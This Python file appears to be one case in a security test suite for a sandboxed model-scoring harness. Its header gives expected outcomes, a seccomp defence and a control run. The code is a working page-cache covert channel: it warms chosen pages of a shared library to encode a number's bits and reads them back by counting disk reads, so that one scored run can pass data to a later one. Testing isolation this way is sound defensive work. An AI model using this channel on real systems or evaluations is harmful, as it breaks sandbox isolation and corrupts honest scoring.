# /// attack
# group = "living on"
# task = "rooms"
# variants = [{ SEND = "advice" }, { SEND = "fadvise" }, { SEND = "readahead" }]
# expected = ["crash"]
# canaries = ["outcome =~ scored"]
# defences = ["HostConfig.SecurityOpt"]
# control = "flip"
#
# [gvisor]
# because = "it counts no reads: mostly no page is known to be cold, and none is brought in"
# budget_seconds = 8
# expected = ["crash", "scored"]
# canaries = ["rehearsal beats 1"]
# ///
"""Attack: a note in the page cache of the image, which outlives its writer: for each bit of the
number one page of a large library is read or not; who reads it later has the kernel count whether
it came from the disk.

Expected: crash for calls that bring pages in unread. By reading alone: scored, and the second
predictor may know the number.
Defence: the seccomp list refuses those calls; none under runc against reading.
Control: without the list the same calls carry the number.
"""

import ctypes
import json
import mmap
import os
import resource

import numpy as np

LIBRARY = "/opt/sealed/venv/lib/python3.11/site-packages/torch/lib/libtorch_cpu.so"
SEND = "read"  # or "advice", "fadvise", "readahead"
PAGE, WINDOW = 4096, 16
"""In bytes, and in pages: what lies apart is not read ahead."""
PROBED, WRITTEN = 4, 12
"""In its window: the page that tells whether a window is cold, and the one that is a bit."""
BITS, MARKS, SCORINGS = 30, 3, 2
ADVICE_WILLNEED = 3

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long)
libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
libc.readahead.argtypes = (ctypes.c_int, ctypes.c_long, ctypes.c_size_t)


class Library:
    """The library, mapped and open."""

    def __init__(self):
        self.descriptor = os.open(LIBRARY, os.O_RDONLY)
        size = os.fstat(self.descriptor).st_size
        self.address = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_SHARED, self.descriptor, 0)
        self.windows = size // PAGE // WINDOW

    def read(self, page):
        """Whether the page was there before it was read."""
        before = resource.getrusage(resource.RUSAGE_SELF).ru_inblock
        os.pread(self.descriptor, 1, page * PAGE)
        return resource.getrusage(resource.RUSAGE_SELF).ru_inblock == before

    def bring(self, window):
        page = window * WINDOW + WRITTEN
        failed = 0
        if SEND == "read":
            self.read(page)
        elif SEND == "advice":
            failed = libc.madvise(self.address + page * PAGE, PAGE, ADVICE_WILLNEED)
        elif SEND == "fadvise":
            os.posix_fadvise(self.descriptor, page * PAGE, PAGE, os.POSIX_FADV_WILLNEED)
        else:
            failed = libc.readahead(self.descriptor, page * PAGE, PAGE)
        if failed:
            raise OSError(ctypes.get_errno(), "refused")


def train(data, artifact, seed, seconds):
    library = Library()
    cold = []
    for window in range(library.windows):
        if len(cold) < SCORINGS * BITS + 2 * MARKS and not library.read(window * WINDOW + PROBED):
            cold.append(window)
    (artifact / "cold").write_text(json.dumps(cold))


def load(artifact):
    cold = json.loads((artifact / "cold").read_text())
    marks = {"remember": cold[:MARKS], "recall": cold[MARKS : 2 * MARKS]}

    def bits(library, ask):
        """The windows of the scoring that is on: a look at the marks sets them."""
        seen = [library.read(window * WINDOW + WRITTEN) for window in marks[ask]]
        start = 2 * MARKS + (BITS if sum(seen) > MARKS // 2 else 0)
        return cold[start : start + BITS]

    def remember(number):
        library = Library()
        for n, window in enumerate(bits(library, "remember")):
            if number >> n & 1:
                library.bring(window)

    def recall():
        library = Library()
        return sum(
            library.read(window * WINDOW + WRITTEN) << n
            for n, window in enumerate(bits(library, "recall"))
        )

    def answer(question):
        if question["ask"] == "remember":
            remember(question["number"])
        if question["ask"] == "recall":
            return np.float64(recall())
        return np.zeros(4 if question["ask"] == "free" else ())

    return answer
